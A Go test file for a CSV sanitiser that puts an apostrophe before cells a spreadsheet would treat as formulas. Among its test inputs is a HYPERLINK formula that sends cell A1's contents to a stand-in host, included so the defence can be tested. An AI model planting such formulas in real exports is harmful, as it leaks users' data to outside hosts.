package sheet

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// As docs/reference/pages.md has it: a text that a spreadsheet would take for a formula
// has an apostrophe before it.
func TestTame(t *testing.T) {
	for in, want := range map[string]string{
		"a,b\r\n":                             "a,b\r\n",
		"=1+1,-5.00,-5.00x\r\n":               "'=1+1,-5.00,'-5.00x\r\n",
		`"=HYPERLINK(""http://x/?""&A1)",2`:   `"'=HYPERLINK(""http://x/?""&A1)",2`,
		"\"\",,x\r\n\"+1 555\",@a\r\n":        "\"\",,x\r\n\"'+1 555\",'@a\r\n",
		"\"\t=1\",\"\r\n=1\",\"a\r\n=b\"\r\n": "\"'\t=1\",\"'\r\n=1\",\"a\r\n=b\"\r\n",
		"-" + strings.Repeat("1", 200) + "|x": "'-" + strings.Repeat("1", 200) + "|x",
		`"-1""|x"`:                            `"'-1""|x"`,
		`"""=1",-`:                            `"""=1",'-`,
	} {
		for size := 1; size <= len(in); size++ {
			var out bytes.Buffer
			w := Tame(&out)
			for at := 0; at < len(in); at += size {
				if _, err := w.Write([]byte(in[at:min(at+size, len(in))])); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil || out.String() != want {
				t.Fatalf("%q in parts of %d became %q, want %q (%v)", in, size, out.String(), want, err)
			}
		}
	}
}

// What is no formula stays, and what is one begins with an apostrophe, whatever is around it.
func FuzzTame(f *testing.F) {
	for _, seed := range []string{"=1", "-1", "a\"b", "\r\n=", "", "＝x", "-" + strings.Repeat("1", 200), "é"} {
		f.Add(seed, "next")
	}
	f.Fuzz(func(t *testing.T, one, two string) {
		var in, out bytes.Buffer
		w := csv.NewWriter(&in)
		if err := w.Write([]string{one, two, "end"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		want, err := csv.NewReader(bytes.NewReader(in.Bytes())).Read()
		if err != nil {
			return
		}
		to := Tame(&out)
		if _, err := io.Copy(struct{ io.Writer }{to}, &in); err != nil {
			t.Fatal(err)
		}
		if err := to.Flush(); err != nil {
			t.Fatal(err)
		}
		got, err := csv.NewReader(&out).Read()
		if err != nil {
			t.Fatal(err)
		}
		for i, value := range got {
			if strings.HasPrefix(want[i], "=") && !strings.HasPrefix(value, "'=") {
				t.Errorf("%q is left %q", want[i], value)
			}
			got[i] = value
			if value == "'"+want[i] {
				got[i] = want[i]
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Error(diff)
		}
	})
}
